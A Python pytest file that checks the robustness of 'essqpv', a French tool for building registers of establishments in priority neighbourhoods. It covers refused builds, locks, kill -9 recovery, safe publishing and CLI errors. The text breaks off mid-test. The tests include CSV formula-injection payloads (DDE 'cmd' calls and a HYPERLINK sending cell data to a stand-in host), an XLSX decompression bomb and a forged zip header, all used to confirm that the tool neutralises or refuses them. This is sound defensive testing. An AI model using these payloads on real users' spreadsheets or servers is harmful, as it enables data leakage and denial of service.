"""Nothing lost, nothing overwritten by mistake: the build on hostile input.

Each test plants a fault in a real register (the synthetic generator's, 3,000 rows, in the
official schemas) and checks the outcome: refused with a French message naming the figure
and the threshold, the previous vintage intact; or, with --forcer, a warning stored with
the vintage. Locks and kills use real processes (``essqpv construire``).
"""
from __future__ import annotations

import csv
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from essqpv import base as B
from essqpv import garde_fous as G
from essqpv.errors import ConstructionRefusee

ESSQPV = Path(sys.executable).with_name("essqpv")
M = "2024-01"


@pytest.fixture(scope="module")
def registre(tmp_path_factory):
    from essqpv.synthese import generer
    d = tmp_path_factory.mktemp("registre_fiabilite")
    r = generer(d / "reg", etablissements=3000, graine=7, millesime=M)
    f = r["fichiers"]
    etab_csv = d / "StockEtablissement_utf8.csv"
    with zipfile.ZipFile(f["etablissements"]) as z:
        etab_csv.write_bytes(z.read(z.namelist()[0]))
    return {"etab": etab_csv, "ul": Path(f["unites_legales"]),
            "geo": Path(f["geolocalisation"]), "dossier": d,
            "malformees": [m["ligne"] for m in r["malformees"].get("etablissements", [])]}


@pytest.fixture(scope="module")
def bonne(registre):
    """A base holding one good vintage (read-only: copy it with :func:`copie`)."""
    b = registre["dossier"] / "bonne" / "obs.duckdb"
    rapport = B.construire(etablissements=registre["etab"], unites_legales=registre["ul"],
                           geolocalisation=registre["geo"], millesime=M, base=b)
    assert rapport["dans_perimetre"] > 1000 and rapport["localisees"] / rapport[
        "dans_perimetre"] > 0.95 and rapport["en_qpv"] > 50
    return b


def copie(bonne: Path, dossier: Path) -> Path:
    dossier.mkdir(parents=True, exist_ok=True)
    b = dossier / bonne.name
    shutil.copyfile(bonne, b)
    rejets = bonne.with_name(bonne.name + ".rejets")
    if rejets.exists():
        shutil.copytree(rejets, b.with_name(b.name + ".rejets"))
    return b


def etat(b: Path) -> tuple:
    """Bytes of the base and of its rejects folder (what must not change when refused)."""
    rejets = b.with_name(b.name + ".rejets")
    fichiers = sorted((p.relative_to(rejets).as_posix(), p.read_bytes())
                      for p in rejets.rglob("*") if p.is_file()) if rejets.exists() else []
    return b.read_bytes(), fichiers


def plat(texte: str) -> str:
    """The output on one line (the console wraps long lines; keep the French spaces)."""
    return re.sub(r"[ \n]+", " ", texte)


def lancer(*args, env=None, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([str(ESSQPV), *map(str, args)], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=120, **kw)


def construire_cli(registre, b, *extra, etab=None, geo=None, qpv=None, env=None, **kw):
    args = ["construire", "-e", etab or registre["etab"], "-u", registre["ul"],
            "-g", geo or registre["geo"], "-m", M, "-b", b, *extra]
    if qpv:
        args += ["--qpv", qpv]
    return lancer(*args, env=env, **kw)


def refuse(registre, bonne, tmp_path, motif: str, **fichiers) -> str:
    """Build with the faulty files over a copy of the good base: refused (exit 1), the base
    and its rejects unchanged; returns the message."""
    b = copie(bonne, tmp_path / "refus")
    avant = etat(b)
    r = construire_cli(registre, b, **fichiers)
    assert r.returncode == 1, (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr
    message = plat(r.stderr)
    assert motif in message, message
    assert "--forcer" in message and "n'a pas été modifiée" in message
    assert etat(b) == avant
    assert not [p for p in b.parent.iterdir() if ".tmp-" in p.name or p.name.endswith(".verrou")]
    return message


# --------------------------------------------------------------------------- gates


def test_stock_reduit_a_son_entete_refuse(registre, bonne, tmp_path):
    vide = tmp_path / "StockEtablissement_entete.csv"
    vide.write_bytes(registre["etab"].read_bytes().split(b"\n", 1)[0] + b"\n")
    message = refuse(registre, bonne, tmp_path, "aucune ligne acceptée", etab=vide)
    assert "0 ligne(s) lue(s)" in message


def test_stock_presque_vide_refuse_avec_les_chiffres(registre, bonne, tmp_path):
    lignes = registre["etab"].read_bytes().split(b"\n")
    court = tmp_path / "StockEtablissement_court.csv"
    court.write_bytes(b"\n".join(lignes[:301]) + b"\n")
    message = refuse(registre, bonne, tmp_path, "presque vide", etab=court)
    # physical lines 2-301, less the malformed lines the generator planted among them
    acceptees = 300 - sum(1 for n in registre["malformees"] if 2 <= n <= 301)
    assert f"{acceptees} ligne(s) acceptée(s) contre 3\u202f006" in message
    assert "seuil : 50,0\u00a0%" in message


def _latin1(source: Path, cible: Path, toutes_les: int) -> int:
    """Every ``toutes_les``-th data line gets an accented town name and is written in
    cp1252 (the file is otherwise UTF-8): what a hand-edited stock looks like."""
    lignes = source.read_bytes().split(b"\n")
    entete = next(csv.reader([lignes[0].decode()]))
    i = entete.index("libelleCommuneEtablissement")
    n = 0
    with open(cible, "wb") as f:
        f.write(lignes[0] + b"\n")
        for k, brut in enumerate(lignes[1:], 1):
            if not brut:
                continue
            if k % toutes_les == 0:
                champs = next(csv.reader([brut.decode()]))
                champs[i] = "SAINT-ÉTIENNE-LÈS-REMIREMONT"
                tampon = io.StringIO()
                csv.writer(tampon, lineterminator="").writerow(champs)
                f.write(tampon.getvalue().encode("cp1252") + b"\n")
                n += 1
            else:
                f.write(brut + b"\n")
    return n


def test_rejets_en_latin1_refuses_avec_indice_d_encodage(registre, bonne, tmp_path):
    faux = tmp_path / "StockEtablissement_latin1.csv"
    n = _latin1(registre["etab"], faux, 10)
    assert n > 250
    message = refuse(registre, bonne, tmp_path, "des lignes du stock des établissements "
                     "rejetées", etab=faux)
    assert "seuil : 2,0\u00a0%" in message
    assert "latin-1" in message and "UTF-8" in message


def test_geolocalisation_dans_un_mauvais_epsg_refusee(registre, bonne, tmp_path):
    lignes = registre["geo"].read_text("utf-8").splitlines()
    i = lignes[0].split(";").index("epsg")
    faux = tmp_path / "geo_epsg_faux.csv"
    with open(faux, "w", encoding="utf-8") as f:
        f.write(lignes[0] + "\n")
        for ligne in lignes[1:]:
            champs = ligne.split(";")
            if champs[i] == "2154":
                champs[i] = "32620"  # UTM 20N (Antilles) for metropolitan Lambert-93 metres
            f.write(";".join(champs) + "\n")
    message = refuse(registre, bonne, tmp_path, "localisés en forte baisse", geo=faux)
    assert "99," in message and "baisse maximale admise : 15 points" in message


def _couche(tmp_path: Path, nom: str, garder=None, vers_epsg: int | None = None) -> Path:
    """The embedded 2015 contours (real geometries) as a GeoPackage labelled EPSG:4326,
    optionally only some QPV, optionally with coordinates projected to ``vers_epsg``."""
    import numpy as np
    import pyarrow as pa
    import pyogrio
    import pyproj
    import shapely

    from essqpv.sources.qpv import lire_qpv
    c = lire_qpv(geographie="2015")  # codes QP…, 1,296 in metropolitan France
    g = np.ones(len(c.codes), bool) if garder is None else np.array(
        [garder(code) for code in c.codes])
    geoms = c.geometries[g]
    if vers_epsg:
        t = pyproj.Transformer.from_crs(4326, vers_epsg, always_xy=True)
        geoms = shapely.transform(geoms, lambda xy: np.column_stack(t.transform(xy[:, 0],
                                                                                xy[:, 1])))
    table = pa.table({"code_qp": c.codes[g].tolist(), "nom_qp": c.noms[g].tolist(),
                      "commune_qp": c.communes[g].tolist(),
                      "geom": pa.array(shapely.to_wkb(geoms).tolist(), pa.binary())})
    chemin = tmp_path / nom
    pyogrio.write_arrow(table, chemin, layer="qpv", driver="GPKG", geometry_name="geom",
                        geometry_type="Unknown", crs="EPSG:4326")
    return chemin


def test_contours_en_lambert93_etiquetes_wgs84_refuses(registre, bonne, tmp_path):
    gpkg = _couche(tmp_path, "qpv_l93_etiquete_4326.gpkg",
                   garder=lambda code: code[2:4] not in ("97", "98"), vers_epsg=2154)
    message = refuse(registre, bonne, tmp_path, "incohérents avec leur système de coordonnées "
                     "déclaré (EPSG:4326)", qpv=gpkg)
    assert "1\u202f296 polygone(s) sur 1\u202f296" in message and "Lambert-93" in message


def test_aucun_etablissement_en_qpv_refuse(registre, bonne, tmp_path):
    # Real contours, right CRS, but only French Polynesia's (outside Sirene: none there).
    gpkg = _couche(tmp_path, "qpv_polynesie.gpkg", garder=lambda code: code.startswith("QP987"))
    message = refuse(registre, bonne, tmp_path, "Aucun établissement en QPV", qpv=gpkg)
    assert "localisés" in message


def test_forcer_enregistre_l_avertissement_et_le_montre(registre, bonne, tmp_path):
    from essqpv.indicators import indicateurs
    from essqpv.outputs.report import _avertissements
    gpkg = _couche(tmp_path, "qpv_polynesie.gpkg", garder=lambda code: code.startswith("QP987"))
    b = copie(bonne, tmp_path / "forcee")
    r = construire_cli(registre, b, "--forcer", qpv=gpkg)
    assert r.returncode == 0, r.stderr
    attendu = "Construction forcée (--forcer) malgré : Aucun établissement en QPV"
    assert attendu in plat(r.stdout)
    stockes = B.metadonnees(b, M)["avertissements"]
    assert any(a.startswith(attendu) for a in stockes)
    assert any(a.startswith(attendu) for a in B.controle(b, M)[0]["avertissements"])
    c = lancer("controle", "-b", b, "-m", M)
    assert c.returncode == 0 and attendu in plat(c.stdout)
    ind = indicateurs(b, "FR", millesime=M)  # what the dashboard and the report show
    assert any(a.startswith(attendu) for a in ind["avertissements"])
    assert any(a.startswith(attendu) for a in _avertissements(ind, B.metadonnees(b, M)))


def test_les_seuils_de_part_ne_jugent_pas_un_petit_fichier():
    petit = {"millesime": M, "lignes_lues": 12, "lignes_rejetees": 4, "acceptees": 8,
             "rejets_par_motif": {"champs_en_trop": 4}, "dans_perimetre": 8, "localisees": 2,
             "en_qpv": 0}
    avert = G.verifier_plausibilite(petit, None, [])
    assert len(avert) == 3  # rejects, placed share, no QPV: warnings, not refusals
    with pytest.raises(ConstructionRefusee, match="aucune ligne acceptée"):
        G.verifier_plausibilite({**petit, "acceptees": 0}, None, [])


def test_base_qui_est_un_autre_fichier_jamais_ecrasee(registre, bonne, tmp_path):
    victime = tmp_path / "notes.csv"
    victime.write_bytes(registre["etab"].read_bytes()[:5000])
    avant = victime.read_bytes()
    r = construire_cli(registre, victime)
    assert r.returncode == 2 and "n'est pas une base DuckDB : il ne sera pas remplacé" in \
        plat(r.stderr)
    assert victime.read_bytes() == avant and sorted(p.name for p in tmp_path.iterdir()) == [
        "notes.csv"]
    # a symbolic link to the base: the base it points to is rebuilt, the link stays
    b = copie(bonne, tmp_path / "reelle")
    lien = tmp_path / "lien.duckdb"
    lien.symlink_to(b)
    assert construire_cli(registre, lien).returncode == 0
    assert lien.is_symlink() and lien.resolve() == b and B.millesimes(lien)[0]["millesime"] == M


# --------------------------------------------------------------------------- lock, kills


def _attendre_arret(p: subprocess.Popen, delai: float = 60) -> None:
    """Wait until the process stopped itself (SIGSTOP at the hook) or ended."""
    fin = time.monotonic() + delai
    while time.monotonic() < fin:
        if p.poll() is not None:
            raise AssertionError(p.communicate())
        with open(f"/proc/{p.pid}/stat") as f:
            if f.read().rsplit(")", 1)[1].split()[0] == "T":
                return
        time.sleep(0.05)
    raise AssertionError("le processus ne s'est pas arrêté au point demandé")


def test_deux_constructions_a_la_fois_la_seconde_refusee(registre, bonne, tmp_path):
    b = copie(bonne, tmp_path / "verrou")
    avant = etat(b)
    premiere = subprocess.Popen(
        [str(ESSQPV), "construire", "-e", registre["etab"], "-u", registre["ul"], "-g",
         registre["geo"], "-m", M, "-b", b], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "ESSQPV_ARRET_TEST": "base_temporaire_ecrite:pause"})
    try:
        _attendre_arret(premiere)
        seconde = construire_cli(registre, b)
        assert seconde.returncode == 1
        message = plat(seconde.stderr)
        assert f"déjà en cours de construction par le processus {premiere.pid}" in message
        assert "Traceback" not in seconde.stderr
    finally:
        premiere.send_signal(signal.SIGKILL)
        premiere.wait()
    # The first one died holding the lock, its temporary base (~ the size of the base) left.
    restes = [p.name for p in b.parent.iterdir() if f"tmp-{premiere.pid}" in p.name]
    assert restes == [f"obs.duckdb.tmp-{premiere.pid}"]
    assert (b.parent / "obs.duckdb.verrou").exists()
    assert [p.name for p in b.with_name("obs.duckdb.rejets").iterdir()
            if p.name != M] == [f"{M}.tmp-{premiere.pid}"]
    base_avant, rejets_avant = avant
    base_apres, rejets_apres = etat(b)
    assert base_apres == base_avant
    assert [f for f in rejets_apres if f[0].startswith(f"{M}/")] == rejets_avant
    # The next build takes the stale lock over and removes what the dead one left.
    troisieme = construire_cli(registre, b)
    assert troisieme.returncode == 0, troisieme.stderr
    sortie = plat(troisieme.stdout + troisieme.stderr)
    assert f"Verrou laissé par le processus {premiere.pid} (arrêté) repris" in sortie
    assert f"obs.duckdb.tmp-{premiere.pid}" in sortie and f"{M}.tmp-{premiere.pid}" in sortie
    assert sorted(p.name for p in b.parent.iterdir()) == [
        "obs.duckdb", "obs.duckdb.rejets", "obs.duckdb.travail"]


def test_restes_d_autrui_jamais_supprimes(bonne, tmp_path):
    b = copie(bonne, tmp_path / "restes")
    vivant = b.with_name(f"obs.duckdb.tmp-{os.getppid()}")       # a live process's
    a_moi = b.with_name("obs.duckdb.tmp-sauvegarde")             # not a pid: not ours
    autre = b.with_name("autre.duckdb.tmp-999999999")            # another base's
    for p in (vivant, a_moi, autre):
        p.write_bytes(b"x")
    mort = b.with_name("obs.duckdb.tmp-999999999")
    mort.write_bytes(b"x" * 1000)
    extraits = b.with_name("obs.duckdb.travail") / "extraits"
    extraits.mkdir(parents=True)
    extrait_mort = extraits / "StockEtablissement_utf8.csv.partiel-999999998"
    extrait_mort.write_bytes(b"siren\n")
    extrait_bon = extraits / "StockEtablissement_utf8.csv"
    extrait_bon.write_bytes(b"siren\n")
    with G.Verrou(b):
        supprimes = G.nettoyer_restes(b)
    assert sorted(supprimes) == ["StockEtablissement_utf8.csv.partiel-999999998 (0.0 Mo)",
                                 "obs.duckdb.tmp-999999999 (0.0 Mo)"]
    assert not mort.exists() and not extrait_mort.exists()
    assert all(p.exists() for p in (vivant, a_moi, autre, extrait_bon))


def _rejets_differents(registre, tmp_path: Path) -> Path:
    """The stock with 6 lines given an extra field (rejected: champs_en_trop)."""
    lignes = registre["etab"].read_bytes().split(b"\n")
    for k in (50, 400, 900, 1500, 2200, 2900):
        lignes[k] += b",EN_TROP"
    f = tmp_path / "StockEtablissement_autres_rejets.csv"
    f.write_bytes(b"\n".join(lignes))
    return f


ETAPES = ["avant_ecriture", "rejets_prepares", "base_temporaire_ecrite", "base_echangee",
          "rejets_anciens_ecartes", "rejets_echanges"]


@pytest.mark.parametrize("etape", ETAPES)
def test_kill_9_a_chaque_etape_base_et_rejets_concordent(registre, bonne, tmp_path, etape):
    b = copie(bonne, tmp_path / "kill")
    ancienne = G.signature_base(b, M)
    autre = _rejets_differents(registre, tmp_path)
    r = construire_cli(registre, b, etab=autre, env={"ESSQPV_ARRET_TEST": etape})
    assert r.returncode == -signal.SIGKILL
    # Whatever the stage: the base is the old or the new vintage, whole, and the rejects
    # folder (as the tool hands it out) is the one of that vintage.
    signature = G.signature_base(b, M)
    nouvelle = ancienne["lignes"] + 6
    assert signature["lignes"] == (ancienne["lignes"] if etape in ETAPES[:3] else nouvelle)
    assert G.signature_dossier(B.dossier_rejets(b, M)) == signature
    # The next build removes what the killed one left, and agrees with itself.
    assert construire_cli(registre, b).returncode == 0
    assert G.signature_base(b, M) == ancienne
    assert G.signature_dossier(B.dossier_rejets(b, M)) == ancienne
    assert sorted(p.name for p in b.parent.iterdir()) == [
        "obs.duckdb", "obs.duckdb.rejets", "obs.duckdb.travail"]
    assert [p.name for p in b.with_name("obs.duckdb.rejets").iterdir()] == [M]


# --------------------------------------------------------------------------- publier


def _publier(b: Path, sortie: Path):
    from essqpv.web import publier
    return publier(b, sortie, territoires=["COM:93066"], fichiers="aucun", rapports=False,
                   processus=1)


def test_publier_refuse_un_dossier_qui_n_est_pas_le_sien(bonne, tmp_path):
    sortie = tmp_path / "V"
    (sortie / "mes_notes").mkdir(parents=True)
    (sortie / "budget.xlsx").write_bytes(b"a moi")
    (sortie / "mes_notes" / "n.txt").write_text("a moi aussi")
    r = lancer("publier", "-b", bonne, "--sortie", sortie, "--territoire", "COM:93066",
               "--fichiers", "aucun", "--sans-rapports")
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert "ne contient pas de site publié par essqpv" in plat(r.stderr)
    assert (sortie / "budget.xlsx").read_bytes() == b"a moi"
    assert (sortie / "mes_notes" / "n.txt").read_text() == "a moi aussi"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["V"]   # nothing left beside it
    fichier = tmp_path / "un_fichier"
    fichier.write_text("x")
    from essqpv.errors import SortieRefusee
    with pytest.raises(SortieRefusee, match="est un fichier"):
        _publier(bonne, fichier)
    assert fichier.read_text() == "x"


def test_publier_droits_publics_et_republication_de_son_propre_site(bonne, tmp_path):
    from essqpv.errors import SortieRefusee
    sortie = tmp_path / "site"
    ancien = os.umask(0o077)  # a strict umask: the site must still be readable by others
    try:
        _publier(bonne, sortie)
    finally:
        os.umask(ancien)
    modes = {(p.is_dir(), p.stat().st_mode & 0o777) for p in [sortie, *sortie.rglob("*")]}
    assert modes == {(True, 0o755), (False, 0o644)}
    assert (sortie / "index.html").exists() and (sortie / ".essqpv-site.json").exists()
    # its own earlier site: replaced
    (sortie / "index.html").write_text("ancienne page")
    _publier(bonne, sortie)
    assert "ancienne page" not in (sortie / "index.html").read_text("utf-8")
    # a file of the user's added to the site: refused, kept
    (sortie / "donnees" / "a_moi.csv").write_text("x")
    with pytest.raises(SortieRefusee, match="qu'essqpv n'a pas écrit.*donnees/a_moi.csv"):
        _publier(bonne, sortie)
    assert (sortie / "donnees" / "a_moi.csv").read_text() == "x"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]


def test_publier_dans_un_lien_symbolique_suit_le_lien(bonne, tmp_path):
    reel = tmp_path / "reel"
    reel.mkdir()
    lien = tmp_path / "lien"
    lien.symlink_to(reel, target_is_directory=True)
    _publier(bonne, lien)
    assert lien.is_symlink() and (reel / "index.html").exists()
    assert (lien / "index.html").exists()


# --------------------------------------------------------------------------- command line


@pytest.mark.parametrize("args, attendu", [
    (["construire", "-e", "a", "-u", "b", "-m", M, "--tampon", "abc"],
     "valeur invalide pour --tampon : un nombre entier est attendu"),
    (["construire", "--inconnue"], "option inconnue : --inconnue"),
    (["rapport", "-b", "x.duckdb", "-t", "FR", "--format", "docx"],
     "« docx » n'est pas l'une des valeurs possibles"),
    (["controle", "en-trop"], "argument en trop : en-trop"),
    (["commande-inconnue"], "commande inconnue : commande-inconnue"),
    (["construire"], "--etablissements / -e est obligatoire"),
    (["localiser", "--lon", "nan", "--lat", "48.9"], "« nan » n'est pas un nombre fini"),
    (["localiser", "--lon", "inf", "--lat", "48.9"], "« inf » n'est pas un nombre fini"),
])
def test_erreurs_d_usage_une_ligne_en_francais_code_2(args, attendu):
    r = lancer(*args)
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert attendu in plat(r.stderr)
    assert "Traceback" not in r.stderr and "Error:" not in r.stderr
    assert len(r.stderr.strip().splitlines()) <= 2  # one line (the console may wrap it)


def test_sans_sous_commande_l_aide_et_code_2():
    r = lancer("initiatives")
    assert r.returncode == 2 and "Usage" in r.stdout + r.stderr
    assert "Erreur" not in r.stderr


def test_base_qui_n_est_pas_duckdb_code_2(tmp_path):
    faux = tmp_path / "pas_une_base.duckdb"
    faux.write_text("ceci n'est pas une base\n")
    for args in (["controle", "-b", faux], ["rapport", "-b", faux, "-t", "FR"],
                 ["indicateurs", "-b", faux, "-t", "FR"]):
        r = lancer(*args)
        assert r.returncode == 2, (args, r.stderr)
        assert "n'est pas une base DuckDB lisible (fichier d'un autre type ou endommagé)" \
            in plat(r.stderr)
        assert "Traceback" not in r.stderr
    assert faux.read_text() == "ceci n'est pas une base\n"


def test_plantage_une_ligne_et_la_trace_journalisee(tmp_path, monkeypatch, capsys):
    import typer

    from essqpv.cli._commun import executer
    app = typer.Typer()

    @app.command()
    def casse(n: int = 1) -> None:
        {}["cle_absente"]

    @app.command()
    def autre() -> None:
        pass

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "etat"))
    assert executer(app, ["casse"]) == 1
    err = capsys.readouterr().err
    assert "Erreur interne : KeyError : 'cle_absente' — trace complète dans" in plat(err)
    journaux = list((tmp_path / "etat" / "essqpv").glob("essqpv-erreur-*.log"))
    assert len(journaux) == 1 and str(journaux[0]) in plat(err).replace(" ", "") or \
        str(journaux[0]) in err.replace("\n", "")
    trace = journaux[0].read_text("utf-8")
    assert "Traceback" in trace and "cle_absente" in trace and "def casse" not in err


def test_initiatives_valider_code_1_quand_des_lignes_sont_rejetees():
    donnees = Path(__file__).parent / "data" / "initiatives"
    r = lancer("initiatives", "valider", donnees / "erreurs.csv")
    assert r.returncode == 1 and "rejet" in r.stdout.lower()
    assert lancer("initiatives", "valider", donnees / "initiatives.csv").returncode == 0


# --------------------------------------------------------------------------- CSV formulas


FORMULES = ['=HYPERLINK("http://exemple.invalid/?q="&A1,"clic")', "=cmd|' /C calc'!A0",
            "+33 1 23 45 67 89", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTABULATION"]


def test_neutraliser_regle_owasp():
    from essqpv.csv_sur import neutraliser, neutraliser_frame
    import polars as pl
    for v in FORMULES + ["\rRETOUR"]:
        assert neutraliser(v) == "'" + v
    for v in ("-12", "+3.5", "-1,55", "1e-3", "ASSOCIATION = SOLIDARITE", "", None, 7, -3.2):
        assert neutraliser(v) == v
    df = pl.DataFrame({"t": ["=1+1", "-12", "ok", None], "n": [-1, 2, 3, 4]})
    assert neutraliser_frame(df).to_dict(as_series=False) == {
        "t": ["'=1+1", "-12", "ok", None], "n": [-1, 2, 3, 4]}


def _lire_csv(chemin: Path, sep: str = ",") -> list[dict]:
    texte = chemin.read_text("utf-8-sig")
    return list(csv.DictReader(io.StringIO(texte, newline=""), delimiter=sep))


def test_export_csv_des_etablissements_sans_formule(registre, tmp_path):
    from essqpv.outputs.exports import exporter
    lignes = list(csv.reader(io.StringIO(registre["ul"].read_text("utf-8"), newline="")))
    i_nom = lignes[0].index("denominationUniteLegale")
    i_cj = lignes[0].index("categorieJuridiqueUniteLegale")
    visees = [k for k, l in enumerate(lignes[1:], 1) if l[i_cj] == "9220"][:len(FORMULES)]
    for k, formule in zip(visees, FORMULES):
        lignes[k][i_nom] = formule
    ul = tmp_path / "StockUniteLegale_formules.csv"
    with open(ul, "w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(lignes)
    b = tmp_path / "obs.duckdb"
    B.construire(etablissements=registre["etab"], unites_legales=ul,
                 geolocalisation=registre["geo"], millesime=M, base=b)
    ecrits = exporter(b, "FR", "csv", tmp_path / "exports")
    etab = next(p for p in ecrits if p.name.endswith("-etablissements.csv"))
    noms = [r["denomination"] for r in _lire_csv(etab)]
    trouvees = [n for n in noms if n.startswith("'")]
    assert trouvees and {n[1:] for n in trouvees} <= set(FORMULES)
    assert not [n for n in noms if n[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # numbers stay numbers (coordinates of the west of France are negative)
    assert any(r["lon"].startswith("-") for r in _lire_csv(etab) if r["lon"])


def test_resultat_de_localiser_et_export_des_initiatives_sans_formule(tmp_path):
    points = tmp_path / "points.csv"
    with open(points, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["nom", "lon", "lat"])
        for k, formule in enumerate(FORMULES):
            w.writerow([formule, f"{-1.68 + k / 1000:.4f}", "48.11"])  # Rennes: negative lon
    sortie = tmp_path / "points_qpv.csv"
    r = lancer("localiser", "--fichier", points, "--sortie", sortie)
    assert r.returncode == 0, r.stderr
    lues = _lire_csv(sortie, sep=",")
    assert [x["nom"] for x in lues] == ["'" + v for v in FORMULES]
    assert all(x["lon"].startswith("-1.6") for x in lues)

    initiatives = tmp_path / "initiatives.csv"
    with open(initiatives, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["nom", "siret", "code_postal", "commune", "longitude", "latitude"])
        for k, formule in enumerate(FORMULES):
            w.writerow([formule, "", "93000", "Bobigny", f"{2.44 + k / 1000:.4f}", "48.91"])
    b = tmp_path / "annuaire.duckdb"
    r = lancer("initiatives", "importer", initiatives, "--base", b, "--creer")
    assert r.returncode == 0, (r.stdout, r.stderr)
    export = tmp_path / "export.csv"
    assert lancer("initiatives", "exporter", export, "--base", b).returncode == 0
    noms = [x["nom"] for x in _lire_csv(export)]
    # (the directory trims the names: the leading tab goes, then nothing to neutralise)
    assert sorted(noms) == sorted("'" + v for v in FORMULES if v[0] != "\t") + ["TABULATION"]


# --------------------------------------------------------------------------- uploads


# the hostile files are the benchmark's own (benchmarks/televersement.py measures the same server)
from benchmarks.televersement import bombe as _bombe_xlsx  # noqa: E402
from benchmarks.televersement import classeur as _classeur  # noqa: E402
from benchmarks.televersement import pic_mo as _pic_memoire_mo  # noqa: E402


def _bombe(tmp_path: Path, taille: int = 400 << 20) -> Path:
    """A real XLSX (xlsxwriter's) whose sheet gets one inline-string cell of ``taille``
    bytes: a few hundred KB on the wire."""
    return _bombe_xlsx(tmp_path, taille)


@pytest.fixture(scope="module")
def serveur(bonne, tmp_path_factory):
    """``essqpv servir`` in its own process (its memory is measured), on a free port."""
    import socket

    import httpx
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    p = subprocess.Popen([str(ESSQPV), "servir", "--base", str(bonne), "--port", str(port)],
                         stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    url = f"http://127.0.0.1:{port}"
    fin = time.monotonic() + 60
    while time.monotonic() < fin:
        try:
            httpx.get(url + "/api/territoires?q=Paris", timeout=2)
            break
        except httpx.HTTPError:
            assert p.poll() is None, p.stderr.read()
            time.sleep(0.2)
    yield url, p.pid
    p.terminate()
    p.wait(10)


def test_xlsx_bombe_refusee_vite_sans_memoire(serveur, tmp_path):
    import httpx
    url, pid = serveur
    bombe = _bombe(tmp_path)
    assert bombe.stat().st_size < 500_000  # ~ 400 KB on the wire, 400 MB inside
    httpx.get(url + "/api/localiser?lon=2.35&lat=48.85", timeout=30)  # warm
    avant = _pic_memoire_mo(pid)
    debut = time.monotonic()
    r = httpx.post(url + "/api/localiser", files={"fichier": ("bombe.xlsx", bombe.read_bytes())},
                   timeout=60)
    duree = time.monotonic() - debut
    assert r.status_code == 413, r.text
    message = r.json()["erreur"]
    assert "xl/worksheets/sheet1.xml occupe 400,0 Mo une fois décompressé" in message
    assert duree < 3
    assert _pic_memoire_mo(pid) - avant < 20


def test_xlsx_accepte_memoire_bornee(serveur, tmp_path):
    import httpx
    url, pid = serveur
    lignes = [["nom", "lon", "lat"]] + [[f"point {i}", 2.30 + (i % 500) / 5000,
                                         48.80 + (i // 500) / 5000] for i in range(20_000)]
    classeur = _classeur(tmp_path / "points.xlsx", lignes)
    avant = _pic_memoire_mo(pid)
    r = httpx.post(url + "/api/localiser", files={"fichier": ("points.xlsx",
                                                              classeur.read_bytes())},
                   timeout=120)
    assert r.status_code == 200, r.text
    import openpyxl
    (tmp_path / "retour.xlsx").write_bytes(r.content)
    feuille = openpyxl.load_workbook(tmp_path / "retour.xlsx", read_only=True).worksheets[0]
    assert sum(1 for _ in feuille.iter_rows()) == 20_001
    assert _pic_memoire_mo(pid) - avant < 300


def test_xlsx_cellule_geante_ou_archive_menteuse_refusees(tmp_path):
    import struct

    from essqpv.errors import ContenuTropVolumineux, FichierInvalide
    from essqpv.web._localiser import verifier_xlsx
    # one 512 KiB cell: below the declared-size checks, refused while streamed
    with pytest.raises(ContenuTropVolumineux, match="cellule .* de plus de 256 Kio"):
        verifier_xlsx(_bombe(tmp_path, 512 << 10), "cellule.xlsx")
    # a member bigger than its central-directory entry says (a forged header)
    octets = bytearray(_bombe(tmp_path, 8 << 20).read_bytes())
    nom = b"xl/worksheets/sheet1.xml"
    entree = octets.rfind(b"PK\x01\x02", 0, octets.rfind(nom))
    assert octets[entree + 46:entree + 46 + len(nom)] == nom
    octets[entree + 24:entree + 28] = struct.pack("<I", 1000)  # uncompressed size
    menteuse = tmp_path / "menteuse.xlsx"
    menteuse.write_bytes(bytes(octets))
    with zipfile.ZipFile(menteuse) as z:
        assert z.getinfo(nom.decode()).file_size == 1000
    # (zipfile stops at the declared size; the member's CRC then fails)
    with pytest.raises(FichierInvalide, match="dépasse sa taille déclarée|Bad CRC"):
        verifier_xlsx(menteuse, "menteuse.xlsx")
    # a truncated archive
    tronque = tmp_path / "tronque.xlsx"
    tronque.write_bytes(_classeur(tmp_path / "t.xlsx", [["a"], [1]]).read_bytes()[:-200])
    with pytest.raises(FichierInvalide, match="n'est pas un classeur Excel lisible"):
        verifier_xlsx(tronque, "tronque.xlsx")


# --------------------------------------------------------------------------- API


@pytest.fixture(scope="module")
def client(bonne):
    from starlette.testclient import TestClient

    from essqpv.web import creer_application
    return TestClient(creer_application(bonne))


def test_openapi_dit_400_comme_l_api(client):
    schema = client.get("/openapi.json").json()
    assert "422" not in {code for p in schema["paths"].values() for o in p.values()
                         for code in o["responses"]}
    assert "HTTPValidationError" not in schema["components"]["schemas"]
    reponses = schema["paths"]["/api/localiser"]["get"]["responses"]
    assert reponses["400"]["content"]["application/json"]["schema"]["$ref"].endswith("/Erreur")
    r = client.get("/api/localiser?lon=abc&lat=48")
    assert r.status_code == 400 and "nombre attendu" in r.json()["erreur"]


def test_405_porte_allow(client):
    r = client.delete("/api/localiser")
    assert r.status_code == 405 and r.headers["allow"] == "GET, POST"
    r = client.post("/api/indicateurs/FR")
    assert r.status_code == 405 and r.headers["allow"] == "GET"
    assert r.json() == {"erreur": "Méthode non autorisée."}


def test_aucun_chemin_absolu_du_serveur(bonne, client, tmp_path):
    racine = str(bonne.parents[2])  # the temporary folders of the tests
    sources = B.metadonnees(bonne)["sources"]
    assert {s["chemin"] for s in sources if "chemin" in s} == {
        "StockEtablissement_utf8.csv", "StockUniteLegale_utf8.csv",
